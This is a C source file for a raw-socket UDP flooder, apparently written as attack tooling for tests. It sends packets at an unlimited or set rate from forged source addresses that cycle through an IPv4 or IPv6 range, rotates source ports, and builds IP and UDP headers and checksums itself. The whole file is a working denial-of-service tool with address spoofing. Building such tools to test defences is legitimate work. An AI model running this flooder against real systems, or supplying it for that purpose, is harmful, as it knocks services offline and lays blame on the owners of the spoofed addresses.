/*
 * Sends UDP packets as fast as wanted, from as many source addresses as wanted, through raw sockets: an attacker for
 * tests. The kernel routes and frames; addresses, ports and checksums are made here. Reports what the kernel took.
 *
 *   flood TARGET PORT RATE SECONDS PACKETS SOURCE COUNT SOURCE-PORT FILE...
 *
 * RATE: packets a second, 0 for as many as possible. SECONDS, PACKETS: when to end, 0 for never; SIGTERM ends it too.
 * SOURCE, COUNT: the first source address and how many follow it one by one (IPv6: by /64). SOURCE-PORT: 0 for all of 1024-65535 in turn.
 * FILE: messages, sent in turn; eight hash signs in a row become a number of eight hexadecimal digits, another in every
 * packet.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/udp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum { BATCH = 64, MESSAGES = 64, HEADERS = 48, LARGEST = 8192, MARKS = 16 };

struct message {
  unsigned char bytes[LARGEST];
  size_t length;
  size_t marks[MARKS];
  size_t mark_count;
};

static struct message messages[MESSAGES];
static unsigned char packets[BATCH][HEADERS + LARGEST];
static volatile sig_atomic_t ended = 0;

static void on_signal(int number) { ended = number; }

static void die(const char *what) {
  fprintf(stderr, "flood: %s: %s\n", what, strerror(errno));
  exit(1);
}

static double now(void) {
  struct timespec time;
  clock_gettime(CLOCK_MONOTONIC, &time);
  return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

static void read_message(struct message *message, const char *path) {
  FILE *file = fopen(path, "rb");
  if (file == NULL) die(path);
  message->length = fread(message->bytes, 1, LARGEST, file);
  if (ferror(file)) die(path);
  fclose(file);
  for (size_t at = 0; at + 8 <= message->length && message->mark_count < MARKS; at++) {
    if (memcmp(message->bytes + at, "########", 8) != 0) continue;
    message->marks[message->mark_count++] = at;
    at += 7;
  }
}

static uint32_t sum_of(const unsigned char *bytes, size_t length, uint32_t sum) {
  for (; length > 1; bytes += 2, length -= 2) sum += (uint32_t)(bytes[0] << 8 | bytes[1]);
  return length == 0 ? sum : sum + (uint32_t)(bytes[0] << 8);
}

static uint16_t folded(uint32_t sum) {
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return htons((uint16_t)(~sum & 0xffff));
}

/* One packet, from the source with this number; its length. RFC 768, RFC 791, RFC 8200 section 8.1. */
static size_t build(unsigned char *packet, int family, const unsigned char *target, const unsigned char *first,
                    uint32_t source, uint16_t from, uint16_t to, const struct message *message, uint32_t serial) {
  size_t header = family == AF_INET ? sizeof(struct iphdr) : sizeof(struct ip6_hdr);
  size_t size = family == AF_INET ? 4 : 16;
  size_t udp_length = sizeof(struct udphdr) + message->length;
  unsigned char address[16];
  memcpy(address, first, size);
  unsigned char *counted = address + (family == AF_INET ? 0 : 4); /* IPv6: the last four octets of the /64 */
  uint32_t number;
  memcpy(&number, counted, 4);
  number = htonl(ntohl(number) + source);
  memcpy(counted, &number, 4);

  memset(packet, 0, header + sizeof(struct udphdr));
  if (family == AF_INET) {
    struct iphdr *ip = (struct iphdr *)packet;
    ip->version = 4;
    ip->ihl = 5;
    ip->tot_len = htons((uint16_t)(header + udp_length));
    ip->ttl = 64;
    ip->protocol = IPPROTO_UDP;
    memcpy(&ip->saddr, address, 4);
    memcpy(&ip->daddr, target, 4);
  } else {
    struct ip6_hdr *ip = (struct ip6_hdr *)packet;
    ip->ip6_flow = htonl(6U << 28);
    ip->ip6_plen = htons((uint16_t)udp_length);
    ip->ip6_nxt = IPPROTO_UDP;
    ip->ip6_hlim = 64;
    memcpy(&ip->ip6_src, address, 16);
    memcpy(&ip->ip6_dst, target, 16);
  }
  struct udphdr *udp = (struct udphdr *)(packet + header);
  unsigned char *payload = packet + header + sizeof *udp;
  memcpy(payload, message->bytes, message->length);
  for (size_t mark = 0; mark < message->mark_count; mark++) {
    static const char digits[] = "0123456789abcdef";
    for (int digit = 0; digit < 8; digit++)
      payload[message->marks[mark] + (size_t)digit] = (unsigned char)digits[serial >> (28 - 4 * digit) & 15];
  }
  udp->source = htons(from);
  udp->dest = htons(to);
  udp->len = htons((uint16_t)udp_length);
  uint32_t sum = sum_of(address, size, sum_of(target, size, (uint32_t)(IPPROTO_UDP + udp_length)));
  uint16_t check = folded(sum_of((const unsigned char *)udp, udp_length, sum));
  udp->check = check == 0 ? 0xffff : check;
  return header + udp_length;
}

int main(int count, char **words) {
  if (count < 10 || count > 9 + MESSAGES) {
    fprintf(stderr, "usage: flood TARGET PORT RATE SECONDS PACKETS SOURCE COUNT SOURCE-PORT FILE...\n");
    return 2;
  }
  int family = strchr(words[1], ':') == NULL ? AF_INET : AF_INET6;
  unsigned char target[16], first[16];
  errno = EINVAL;
  if (inet_pton(family, words[1], target) != 1) die(words[1]);
  if (inet_pton(family, words[6], first) != 1) die(words[6]);
  uint16_t port = (uint16_t)atoi(words[2]), own_port = (uint16_t)atoi(words[8]);
  double rate = atof(words[3]), seconds = atof(words[4]);
  uint64_t limit = strtoull(words[5], NULL, 10);
  uint32_t sources = (uint32_t)atol(words[7]);
  size_t message_count = (size_t)count - 9;
  if (sources == 0) die("the number of sources");
  for (size_t at = 0; at < message_count; at++) read_message(&messages[at], words[9 + at]);

  int out = socket(family, SOCK_RAW, IPPROTO_RAW); /* implies that we bring the IP header */
  if (out < 0) die("raw socket");
  int buffer = 4 << 20;
  if (setsockopt(out, SOL_SOCKET, SO_SNDBUFFORCE, &buffer, sizeof buffer) < 0) die("send buffer");
  struct sockaddr_in to4 = {.sin_family = AF_INET};
  struct sockaddr_in6 to6 = {.sin6_family = AF_INET6};
  memcpy(&to4.sin_addr, target, 4);
  memcpy(&to6.sin6_addr, target, 16);
  struct iovec parts[BATCH];
  struct mmsghdr batch[BATCH];
  memset(batch, 0, sizeof batch);
  for (int at = 0; at < BATCH; at++) {
    batch[at].msg_hdr.msg_name = family == AF_INET ? (void *)&to4 : (void *)&to6;
    batch[at].msg_hdr.msg_namelen = family == AF_INET ? sizeof to4 : sizeof to6;
    batch[at].msg_hdr.msg_iov = &parts[at];
    batch[at].msg_hdr.msg_iovlen = 1;
  }
  struct sigaction action = {.sa_handler = on_signal};
  sigaction(SIGTERM, &action, NULL);
  sigaction(SIGINT, &action, NULL);
  printf("sending\n");
  fflush(stdout);

  double began = now(), pace = began;
  uint64_t sent = 0, refused = 0, paced = 0;
  while (ended == 0) {
    double time = now();
    if ((seconds > 0 && time - began >= seconds) || (limit > 0 && sent >= limit)) break;
    unsigned int wanted = limit > 0 && limit - sent < BATCH ? (unsigned int)(limit - sent) : BATCH;
    if (rate > 0) {
      /* What could not be sent in time is not made up for: a burst would be another attack than the one asked for. */
      if ((time - pace) * rate - (double)paced > rate / 50 + BATCH) pace = time, paced = 0;
      double due = (time - pace) * rate - (double)paced;
      if (due < 1) {
        struct timespec rest = {.tv_nsec = 50000};
        nanosleep(&rest, NULL);
        continue;
      }
      if (due < wanted) wanted = (unsigned int)due;
    }
    for (unsigned int at = 0; at < wanted; at++) {
      uint64_t serial = sent + refused + at;
      uint16_t from = own_port != 0 ? own_port : (uint16_t)(1024 + serial % 64512);
      parts[at].iov_base = packets[at];
      parts[at].iov_len = build(packets[at], family, target, first, (uint32_t)(serial % sources), from, port,
                                &messages[serial % message_count], (uint32_t)serial);
    }
    int taken = sendmmsg(out, batch, wanted, 0);
    if (taken > 0) sent += (uint64_t)taken, paced += (uint64_t)taken;
    if (taken >= 0 && (unsigned int)taken == wanted) continue;
    if (taken < 0 && errno != ENOBUFS && errno != EAGAIN && errno != EINTR && errno != EPERM) die("sendmmsg");
    if (ended == 0) refused++, paced++;
  }
  double lasted = now() - began;
  printf("{\"sent\":%llu,\"refused\":%llu,\"seconds\":%.6f,\"perSecond\":%.0f}\n", (unsigned long long)sent,
         (unsigned long long)refused, lasted, (double)sent / lasted);
  return 0;
}
